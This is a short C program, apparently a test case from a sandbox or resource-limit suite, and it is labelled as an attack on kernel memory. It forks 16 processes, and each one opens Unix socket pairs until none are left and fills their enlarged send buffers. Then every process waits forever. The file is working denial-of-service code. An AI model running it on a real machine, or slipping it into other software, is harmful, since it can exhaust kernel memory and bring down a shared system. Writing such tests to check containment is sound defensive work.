// Attacks: kernel memory, with full unix sockets held by many processes.
#include "../hostile.h"
int main(void) {
  for (int i = 0; i < 4; i++) fork();
  static char block[1 << 16];
  for (int ends[2]; socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, ends) == 0;) {
    int most = 1 << 30;
    setsockopt(ends[0], SOL_SOCKET, SO_SNDBUF, &most, sizeof most);
    while (write(ends[0], block, sizeof block) > 0) {
    }
  }
  while (1) pause();
}
